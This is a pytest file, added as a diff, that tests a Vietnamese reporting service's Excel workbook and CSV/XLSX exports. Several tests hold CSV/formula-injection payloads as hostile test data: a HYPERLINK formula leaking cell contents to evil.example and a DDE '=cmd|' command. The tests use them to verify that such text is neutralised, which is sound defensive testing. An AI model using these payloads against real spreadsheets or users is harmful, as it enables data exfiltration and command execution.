@@ -1,0 +1,221 @@
+"""The consolidated workbook and the CSV/XLSX exports (pure: views in, bytes out)."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import zipfile
+from decimal import Decimal
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from service.workbook import export_rows, neutralize, put_text, render_export_csv, render_export_xlsx, \
+    render_workbook
+from tests.unit.test_digest import CFG, DAY, MILLION, YESTERDAY, at, make_cfg, model, msg, scenario, view_of
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+
+
+def hostile() -> list:
+    """Units and strangers whose text looks like formulas."""
+    return scenario() + [
+        msg("YTE", at(DAY, 9), {("ho_kinh_doanh", "de_nghi"): 41}, subject=FORMULA,
+            problems=(("not_a_number", {"file": "=cmd|'/c calc'!A1.xlsx", "sheet": "S", "cell": "C4",
+                                        "text": "@SUM(1+1)"}),)),
+        msg(None, at(DAY, 14), kind="unassigned", sender="+84@evil.example", subject="-2+3",
+            reason="unknown_sender:+84@evil.example"),
+        msg(None, at(DAY, 14, 5), kind="unassigned", sender="x@evil.example", subject="#N/A\x00\x07bell",
+            reason="unknown_sender:x@evil.example"),
+    ]
+
+
+def book(cfg=CFG, messages=None, **kw):
+    data = render_workbook(model(cfg, messages, **kw), cfg)
+    return data, load_workbook(io.BytesIO(data))
+
+
+def all_text_cells(wb):
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.value is not None:
+                    yield ws.title, c
+
+
+def test_sheets_in_vietnamese_and_english():
+    _, wb = book()
+    assert wb.sheetnames == ["Tổng hợp", "Tình hình báo cáo", "Chi tiết theo đơn vị", "Vấn đề",
+                             "Thư chưa gắn đơn vị"]
+    _, wb = book(make_cfg("en"))
+    assert wb.sheetnames == ["Totals", "Reporting status", "Figures by unit", "Problems", "Unassigned messages"]
+
+
+def test_print_setup_freeze_panes_and_widths_on_every_sheet():
+    _, wb = book()
+    for ws in wb.worksheets:
+        assert ws.page_setup.orientation == "landscape", ws.title
+        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
+        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
+        assert ws.print_title_rows, ws.title
+        assert ws.freeze_panes, ws.title
+        assert ws.column_dimensions["B"].width > 5, ws.title
+    assert wb["Tổng hợp"].freeze_panes == "C9" and wb["Tổng hợp"].print_title_rows == "$7:$8"
+    assert wb["Chi tiết theo đơn vị"].print_title_cols == "$A:$C"
+
+
+def test_totals_sheet_values_changes_and_formats():
+    _, wb = book()
+    ws = wb["Tổng hợp"]
+    assert ws["A2"].value == "BÁO CÁO TỔNG HỢP TIẾN ĐỘ NGÀY 11/08/2021"
+    assert "Đã báo cáo 3/5 đơn vị (60%)" in ws["A3"].value
+    assert ws["C7"].value == "Số đối tượng đề nghị hỗ trợ" and ws["E7"].value == "Kinh phí được phê duyệt (triệu đồng)"
+    assert (ws["C8"].value, ws["D8"].value) == ("Lũy kế", "Tăng/giảm")
+    assert ws["B9"].value == "Hỗ trợ người lao động ngừng việc"
+    assert (ws["C9"].value, ws["D9"].value, ws["E9"].value, ws["F9"].value) == (1284, 1132, 1234.5, 863.5)
+    assert ws["C9"].number_format == "#,##0" and ws["E9"].number_format == "#,##0.0#"
+    assert ws["D9"].number_format.startswith("+")
+    assert ws["B11"].value == "Tổng cộng" and ws["C11"].value == 1284 + 47
+
+
+def test_a_native_chart_of_reporting_status():
+    data, wb = book()
+    ws = wb["Tổng hợp"]
+    statuses = {ws.cell(r, 2).value: ws.cell(r, 3).value for r in range(14, 19)}
+    assert statuses == {"Đúng hạn": 1, "Muộn": 1, "Không đọc được": 1, "Chưa báo cáo": 2, "Tổng cộng": 5}
+    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
+    assert any(n.startswith("xl/charts/chart") for n in names)
+    chart_xml = zipfile.ZipFile(io.BytesIO(data)).read(next(n for n in names if n.startswith("xl/charts/")))
+    assert b"barChart" in chart_xml and "Tình hình báo cáo ngày 11/08/2021".encode() in chart_xml
+
+
+def test_no_chart_on_a_day_nobody_has_to_report():
+    data, _ = book(messages=scenario(), day=dt.date(2021, 8, 15))
+    assert not any(n.startswith("xl/charts/") for n in zipfile.ZipFile(io.BytesIO(data)).namelist())
+
+
+def test_status_sheet_one_row_per_unit_with_stale_note():
+    _, wb = book()
+    ws = wb["Tình hình báo cáo"]
+    rows = {ws.cell(r, 2).value: [c.value for c in ws[r]] for r in range(5, 10)}
+    assert set(rows) == {"BHXH", "YTE", "SONG_CAU", "XUAT_HOA", "NONG_THUONG"}
+    assert rows["BHXH"][4] == "Đúng hạn" and rows["BHXH"][5] == "08:05" and rows["BHXH"][8] == 1234.5
+    assert rows["SONG_CAU"][4] == "Muộn" and rows["SONG_CAU"][9] == 1  # one problem
+    assert rows["YTE"][4] == "Chưa báo cáo" and rows["YTE"][-1] == "Số liệu cũ (ngày 10/08/2021)"
+    assert rows["YTE"][6] == dt.datetime(2021, 8, 10)
+    assert rows["XUAT_HOA"][-1] == "Chưa có số liệu"
+    assert ws.auto_filter.ref == "A4:K9"
+
+
+def test_detail_sheet_is_one_row_per_unit_and_a_column_per_indicator_and_measure():
+    _, wb = book()
+    ws = wb["Chi tiết theo đơn vị"]
+    assert ws["F4"].value == "Hỗ trợ người lao động ngừng việc" and ws["H4"].value == "Hỗ trợ hộ kinh doanh"
+    assert [ws.cell(5, c).value for c in range(6, 10)] == [
+        "Số đối tượng đề nghị hỗ trợ", "Kinh phí được phê duyệt (triệu đồng)"] * 2
+    rows = {ws.cell(r, 2).value: [c.value for c in ws[r]][5:9] for r in range(6, ws.max_row + 1)
+            if ws.cell(r, 2).value}
+    assert rows["BHXH"] == [1234, 1234.5, None, None]
+    assert rows["YTE"] == [None, None, 40, None]  # stale figures still count
+    last = ws.max_row
+    assert ws.cell(last, 3).value == "Tổng cộng" and ws.cell(last, 6).value == 1284
+
+
+def test_problems_and_unassigned_sheets():
+    _, wb = book(messages=hostile())
+    problems = wb["Vấn đề"]
+    codes = {problems.cell(r, 5).value for r in range(4, problems.max_row + 1)}
+    assert {"cumulative_decrease", "no_attachment", "not_a_number"} <= codes
+    unassigned = wb["Thư chưa gắn đơn vị"]
+    senders = [unassigned.cell(r, 3).value for r in range(4, unassigned.max_row + 1)]
+    assert senders[:3] == ["ldtbxh.huyenkhac@example.org", "+84@evil.example", "x@evil.example"]
+    assert unassigned.cell(4, 2).value == dt.datetime(2021, 8, 11, 13, 45)
+    assert unassigned.cell(unassigned.max_row, 7).value == "Thư tự động"
+
+
+def test_text_that_looks_like_a_formula_is_never_a_formula():
+    data, wb = book(messages=hostile())
+    texts = [(title, c) for title, c in all_text_cells(wb) if isinstance(c.value, str)]
+    assert any(c.value == "+84@evil.example" for _, c in texts)
+    assert any(c.value.startswith("Tệp =cmd|") for _, c in texts)
+    for title, c in texts:
+        assert c.data_type == "s", (title, c.coordinate, c.value)
+    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        if name.startswith("xl/worksheets/sheet"):
+            assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name), name
+    leading = [c for _, c in texts if c.value.startswith(("=", "+", "-", "@"))]
+    assert leading and all(c.quotePrefix for c in leading)
+
+
+def test_control_characters_and_error_lookalikes_are_plain_text():
+    ws = Workbook().active
+    cell = put_text(ws["A1"], "#N/A\x00\x07x")
+    assert cell.value == "#N/A  x" and cell.data_type == "s"
+
+
+@pytest.mark.parametrize("text, safe", [
+    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Phòng Y tế", "Phòng Y tế"), ("", ""), (None, ""), ("a=b", "a=b"),
+])
+def test_neutralize(text, safe):
+    assert neutralize(text) == safe
+
+
+# -- exports ------------------------------------------------------------------------------------
+
+def views():
+    messages = hostile()
+    return [view_of(CFG, YESTERDAY, messages), view_of(CFG, DAY, messages)]
+
+
+def test_export_rows_long_format_money_in_dong():
+    headers, rows = export_rows(views(), CFG)
+    assert headers[0] == "Ngày" and len(headers) == 11
+    bhxh = [r for r in rows if r[0] == DAY and r[1] == "BHXH"]
+    assert [r[6:] for r in bhxh] == [
+        ["ngung_viec", "Hỗ trợ người lao động ngừng việc", "de_nghi", "Số đối tượng đề nghị hỗ trợ", Decimal(1234)],
+        ["ngung_viec", "Hỗ trợ người lao động ngừng việc", "kinh_phi", "Kinh phí được phê duyệt",
+         Decimal(1_234_500_000)],
+    ]
+    assert bhxh[0][4] == "Đúng hạn" and bhxh[0][5] == at(DAY, 8, 5)
+    # a unit without figures of its own that day still has its row
+    [nong] = [r for r in rows if r[0] == DAY and r[1] == "NONG_THUONG"]
+    assert nong[4] == "Chưa báo cáo" and nong[5] is None and nong[6:] == [None] * 5
+
+
+def test_csv_export_has_a_bom_and_neutralised_text():
+    data = render_export_csv(views(), CFG)
+    assert data.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0][:3] == ["Ngày", "Mã đơn vị", "Đơn vị"]
+    bhxh = [r for r in rows if r[:2] == ["2021-08-11", "BHXH"]]
+    assert bhxh[0][5] == "2021-08-11 08:05:00" and bhxh[1][10] == "1234500000"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[:10])
+
+
+def test_csv_neutralises_unit_names_that_look_like_formulas():
+    from service.config import UnitConfig
+    cfg = make_cfg(units=(UnitConfig("EVIL", "=cmd|' /C calc'!A0", "-nhóm", senders=("e@x.vn",)),))
+    rows = list(csv.reader(io.StringIO(render_export_csv([view_of(cfg, DAY, [])], cfg).decode("utf-8-sig"))))
+    assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'-nhóm"
+
+
+def test_xlsx_export_opens_with_text_never_a_formula():
+    from service.config import UnitConfig
+    cfg = make_cfg(units=(*CFG.units, UnitConfig("EVIL", "=1+1", None, senders=("e@x.vn",))))
+    data = render_export_xlsx([view_of(cfg, DAY, scenario())], cfg)
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws.title == "Số liệu" and ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:K")
+    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
+    bhxh = [r for r in rows if r[1] == "BHXH"]
+    assert bhxh[0][0] == dt.datetime(2021, 8, 11) and bhxh[0][5] == dt.datetime(2021, 8, 11, 8, 5)
+    assert bhxh[1][10] == 1_234_500_000
+    evil = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "EVIL")
+    assert evil[2].value == "=1+1" and evil[2].data_type == "s"
+
+
+def test_money_values_keep_every_dong_in_the_workbook():
+    messages = [msg("BHXH", at(DAY, 8), {("ngung_viec", "kinh_phi"): 1_234_567})]
+    _, wb = book(messages=messages)
+    assert wb["Tổng hợp"]["E9"].value == pytest.approx(1.234567)
+    assert MILLION == 1_000_000
